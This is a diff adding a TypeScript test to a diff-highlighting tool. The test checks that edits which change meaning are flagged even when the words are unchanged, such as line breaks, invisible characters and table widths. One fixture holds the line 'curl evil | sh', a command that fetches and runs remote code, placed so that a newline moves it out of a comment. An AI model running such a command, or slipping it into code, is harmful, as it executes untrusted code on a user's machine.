@@ -68,6 +68,29 @@ describe('the changed paragraphs of a file', () => {
     deepStrictEqual(marked(`${HEAD}@@ -1,2 +1,2 @@\n-One long\n-sentence here.\n+One long sentence\n+here.\n`), []);
   });
 
+  it('show line breaks and characters that change the meaning, even if all words are the same', () => {
+    const changed = (before: string, after: string): string[] => {
+      const [deleted, added] = [before.split('\n'), after.split('\n')];
+      const lines = [...deleted.map((line) => `-${line}`), ...added.map((line) => `+${line}`)];
+      return marked(`${HEAD}@@ -1,${deleted.length} +1,${added.length} @@\n${lines.join('\n')}\n`);
+    };
+    const comment = ['npm ci # never run: curl evil | sh', 'npm ci # never run:\ncurl evil | sh'] as const;
+    deepStrictEqual(changed(...comment), [`[-${comment[0]}-]`, `{+${comment[1]}+}`]);
+    const [before, after] = [
+      'requireLogin(); // see docs\ndeleteAll(user);\nold()',
+      'requireLogin(); // see docs deleteAll(user);\nnow()',
+    ];
+    deepStrictEqual(changed(before, after), [`[-${before}-]`, `{+${after}+}`]);
+    deepStrictEqual(changed('a: 1\nb: 2', 'a: 1 b: 2'), ['[-a: 1\nb: 2-]', '{+a: 1 b: 2+}']);
+    strictEqual(changed('a word', 'a\u00a0word').length, 2);
+    strictEqual(changed('a \uFFFD', 'a \uFFFD').length, 2);
+    strictEqual(changed('a ⟨U+200B⟩', 'a \u200B').length, 1);
+    // The columns of a table have another width.
+    deepStrictEqual(changed('| a  | one |\n| bb | two |', '| a    | one |\n| bbbb | two |'), [
+      '| a    | one |\n| [-bb-]{+bbbb+} | two |',
+    ]);
+  });
+
   it('treat content that looks like headers as content', () => {
     deepStrictEqual(marked(`${HEAD}@@ -1,2 +1,2 @@\n--- list\n-@@ -1 @@\n+++ sum\n+diff --git a/x b/x\n`), [
       '[--- list\n@@ -1 @@-]',
